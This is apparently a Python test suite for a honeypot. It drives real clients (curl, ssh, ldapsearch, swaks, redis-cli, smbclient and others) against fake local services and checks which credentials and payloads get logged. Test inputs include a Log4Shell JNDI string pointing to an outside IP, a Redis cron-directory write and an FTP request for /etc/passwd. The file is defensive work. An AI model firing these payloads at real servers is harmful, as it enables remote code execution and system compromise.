"""Each face and the real client of its protocol: what the client is told is what it knows from the real server, and what it gave away is reported."""
import os
import pathlib
import subprocess
import tempfile

import face_case
from face_case import Case

HERE = pathlib.Path(__file__).resolve().parent
ATTACK = "${jndi:ldap://198.51.100.1/a}"
SHOWN = "\\x24{jndi:ldap://198.51.100.1/a}"  # as text/printable.h writes it
SSH = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-F", "/dev/null"]


class Web(Case):
    def test_curl_sees_a_login_page(self):
        page = self.run_client("curl", "-sS", "-i", "-A", ATTACK, "http://127.0.0.1:8080/", status=0)
        self.assertIn("HTTP/1.1 200 \r\n" if "\r\n" in page else "HTTP/1.1 200 ", page)
        self.assertIn("JSESSIONID=", page)
        self.assertIn("<form method=\"post\" action=\"/login\">", page)
        self.learnt("http", "client_software", SHOWN)
        self.learnt("http", "payload", "User-Agent: " + SHOWN)

    def test_curl_logs_in_and_may_not(self):
        page = self.run_client("curl", "-sS", "-d", "username=admin", "--data-urlencode", "password=p&w 1", "http://127.0.0.1:8080/login", status=0)
        self.assertIn("Wrong user name or password.", page)
        self.learnt("http", "password", "p&w 1")
        code = self.run_client("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-u", "tomcat:s3cret", "http://127.0.0.1:8080/manager/html", status=0)
        self.assertEqual(code, "401")
        self.learnt("http", "password", "s3cret")

    def test_curl_uploads(self):
        body = "x" * 70000 + ATTACK + "x" * 70000
        for extra in ([], ["-H", "Transfer-Encoding: chunked"]):
            with self.subTest(extra=extra), tempfile.NamedTemporaryFile("w") as f:
                f.write(body if not extra else body[65000:75000])
                f.flush()
                code = self.run_client("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--data-binary", "@" + f.name, *extra,
                                       "http://127.0.0.1:9999/api", status=0)
                self.assertEqual(code, "404")
        self.shown(SHOWN, least=2)


class Java(Case):
    def test_jndi_lookups_are_callbacks(self):
        urls = [f"{scheme}://127.0.0.1:{port}/{scheme}-{port}" for scheme, own in (("ldap", 389), ("rmi", 1099)) for port in (own, 9999)]
        out = self.run_client("java", str(HERE / "Lookup.java"), *urls, status=0)
        self.assertEqual(out.split(), ["NameNotFoundException"] * 4)
        for scheme, port in (("ldap", 389), ("ldap", 9999), ("rmi", 1099), ("rmi", 9999)):
            self.learnt(scheme, "callback", f"{scheme}-{port}")


class Ldap(Case):
    def test_ldapsearch(self):
        out = self.run_client("ldapsearch", "-x", "-H", "ldap://127.0.0.1", "-b", "", "-s", "base", status=0)
        self.assertIn("namingContexts: dc=corp,dc=internal", out)
        out = self.run_client("ldapsearch", "-x", "-H", "ldap://127.0.0.1", "-D", "cn=admin,dc=corp", "-w", "pass-l", "-b", "dc=corp", status=49)
        self.assertIn("Invalid credentials (49)", out)
        self.learnt("ldap", "user", "cn=admin,dc=corp")
        self.learnt("ldap", "password", "pass-l")
        out = self.run_client("ldapsearch", "-x", "-H", "ldap://127.0.0.1", "-b", "dc=corp,dc=internal", f"(uid={ATTACK})", status=32)
        self.assertIn("No such object", out)


class Ssh(Case):
    def ssh(self, user, password, *options):
        return self.run_client("sshpass", "-p", password, "ssh", *SSH, "-o", "PreferredAuthentications=password", *options, user + "@127.0.0.1", "id", status=5)

    def test_passwords(self):
        ways = [[], ["-o", "KexAlgorithms=ecdh-sha2-nistp256", "-c", "aes256-ctr", "-m", "hmac-sha2-256"], ["-c", "aes128-ctr", "-m", "hmac-sha1"],
                ["-m", "hmac-sha1-etm@openssh.com"], ["-C"]]
        for i, way in enumerate(ways):
            with self.subTest(way=way):
                self.assertIn("Permission denied", self.ssh(f"user{i}", f"pass-s{i}", *way))
                self.learnt("ssh", "user", f"user{i}")
                self.learnt("ssh", "password", f"pass-s{i}")

    def test_keys(self):
        with tempfile.TemporaryDirectory() as folder:
            for kind in ("ed25519", "rsa", "ecdsa"):
                key = os.path.join(folder, kind)
                subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", key], check=True)
                fingerprint = subprocess.run(["ssh-keygen", "-lf", key], capture_output=True, text=True, check=True).stdout.split()[1]
                out = self.run_client("ssh", *SSH, "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-i", key, "root@127.0.0.1", "id", status=255)
                self.assertIn("Permission denied (publickey,password).", out)
                self.learnt("ssh", "key", {"ecdsa": "ecdsa-sha2-nistp256"}.get(kind, "ssh-" + kind) + " " + fingerprint)

    def test_another_implementation(self):
        script = ("import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
                  "try:\n    c.connect('127.0.0.1', 22, 'root', 'pass-p', allow_agent=False, look_for_keys=False)\n"
                  "except paramiko.AuthenticationException:\n    print('refused')\nc.close()\n")
        self.assertEqual(self.run_client("/usr/bin/python3", "-c", script, status=0), "refused\n")
        self.learnt("ssh", "password", "pass-p")

    def test_same_host_key_each_time(self):
        def keys():
            out = self.run_client("ssh-keyscan", "-t", "ecdsa", "127.0.0.1", status=0)
            return [line for line in out.splitlines() if not line.startswith("#")]
        self.assertEqual(len(keys()), 1)
        self.assertEqual(keys(), keys())


class Lines(Case):
    def test_telnet(self):
        client = subprocess.Popen(["telnet", "127.0.0.1"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        try:
            seen = b""
            for expected, answer in ((b"login: ", b"operator\n"), (b"Password: ", b"pass-t\n"), (b"Login incorrect", None)):
                while expected not in seen:
                    more = os.read(client.stdout.fileno(), 4096)
                    self.assertTrue(more, seen)
                    seen += more
                seen = seen.split(expected, 1)[1]
                if answer:
                    client.stdin.write(answer)
                    client.stdin.flush()
        finally:
            client.kill()
            client.wait()
            client.stdin.close()
            client.stdout.close()
        self.learnt("telnet", "user", "operator")
        self.learnt("telnet", "password", "pass-t")

    def test_ftp(self):
        out = self.run_client("lftp", "-e", "set net:max-retries 1; ls; bye", "-u", "joe,pass-f", "ftp://127.0.0.1", status=1)
        self.assertIn("530 Login incorrect.", out)
        self.learnt("ftp", "user", "joe")
        self.learnt("ftp", "password", "pass-f")
        out = self.run_client("curl", "-sS", "ftp://127.0.0.1/etc/passwd", status=67)
        self.assertIn("Access denied", out)

    def test_smtp(self):
        base = ["swaks", "--server", "127.0.0.1", "--from", "a@example.com", "--helo", "kali"]
        out = self.run_client(*base, "--to", "root@corp.internal", "--header", "X-Api-Version: " + ATTACK)
        self.assertIn("<** 451 4.3.0", out)
        self.learnt("smtp", "workstation", "kali")
        self.shown("X-Api-Version: " + SHOWN)
        for way in ("PLAIN", "LOGIN"):
            out = self.run_client(*base, "--to", "x@example.com", "--auth", way, "--auth-user", "joe", "--auth-password", "pass-" + way)
            self.assertIn("<** 535 5.7.8 Error: authentication failed", out)
            self.learnt("smtp", "password", "pass-" + way)
        self.assertIn("Relay access denied", self.run_client(*base, "--to", "x@example.com"))

    def test_redis(self):
        out = self.run_client("redis-cli", stdin=f"info\nconfig set dir /var/spool/cron\nset k '{ATTACK}'\nget k\nauth pass-r\nfrob\n", status=0)
        for expected in ("redis_version:7.0.15", "OK\nOK\n", "AUTH <password> called without any password", "ERR unknown command"):
            self.assertIn(expected, out)
        self.learnt("redis", "command", "config set dir /var/spool/cron")
        self.learnt("redis", "payload", "set k " + SHOWN)
        self.learnt("redis", "password", "pass-r")


class Databases(Case):
    def test_mysql(self):
        out = self.run_client("mysql", "--no-defaults", "-h", "127.0.0.1", "-u", "root", "-ppass-m", "shop", status=1)
        self.assertIn("ERROR 1045 (28000): Access denied for user 'root'@'127.0.0.1' (using password: YES)", out)
        self.learnt("mysql", "user", "root")
        self.learnt("mysql", "database", "shop")
        self.shown(" response mysql_native_password:")

    def test_psql(self):
        out = self.run_client("psql", "-h", "127.0.0.1", "-U", "admin", "shop", "-c", "select 1", status=2, env={"PGPASSWORD": "pass-q"})
        self.assertIn('FATAL:  password authentication failed for user "admin"', out)
        self.learnt("postgresql", "password", "pass-q")
        self.learnt("postgresql", "database", "shop")


    def test_pymongo(self):
        script = ("import pymongo\nc = pymongo.MongoClient('mongodb://joe:pass-g@127.0.0.1/shop', serverSelectionTimeoutMS=20000, appname='%s')\n"
                  "try:\n    print(c.server_info()['version'])\nexcept pymongo.errors.OperationFailure as e:\n    print(e.code, e.details['errmsg'])\n" % ATTACK)
        self.assertEqual(self.run_client("/usr/bin/python3", "-W", "ignore", "-c", script, status=0), "18 Authentication failed.\n")
        self.learnt("mongodb", "user", "joe")
        self.learnt("mongodb", "database", "shop")
        self.shown(SHOWN)


class Windows(Case):
    def test_smbclient(self):
        for dialect in ("SMB2_02", "SMB2_10", "SMB3_00", "SMB3_02", "SMB3_11"):
            with self.subTest(dialect=dialect):
                self.setUp()
                out = self.run_client("smbclient", "-W", "CORP", "-U", "joe%pass-w", "-m", dialect, "//127.0.0.1/c$", status=1)
                self.assertIn("NT_STATUS_LOGON_FAILURE", out)
                self.learnt("smb", "user", "joe")
                self.learnt("smb", "domain", "CORP")
                self.shown(" response ntlm:")

    def test_the_answer_is_the_password_s(self):
        """NTLMv2 by its definition (MS-NLMP 3.3.2): who knows the password gets the same answer from what was reported."""
        import hashlib
        import hmac
        nthash = subprocess.run(["openssl", "dgst", "-md4", "-provider", "legacy", "-provider", "default", "-binary"],
                                input="pass-w".encode("utf-16le"), capture_output=True, check=True).stdout
        self.run_client("smbclient", "-W", "CORP", "-U", "joe%pass-w", "//127.0.0.1/c$", status=1)
        self.learnt("smb", "user", "joe")
        challenge, response = self.shown(" response ntlm:").split(":")[1:]
        key = hmac.new(nthash, "JOECORP".encode("utf-16le"), hashlib.md5).digest()
        proof = hmac.new(key, bytes.fromhex(challenge + response[32:]), hashlib.md5).hexdigest()
        self.assertEqual(response[:32], proof)


if __name__ == "__main__":
    face_case.main(["curl", "java", "ldapsearch", "sshpass", "ssh", "ssh-keyscan", "telnet", "lftp", "swaks", "redis-cli", "mysql", "psql", "smbclient", "openssl"])
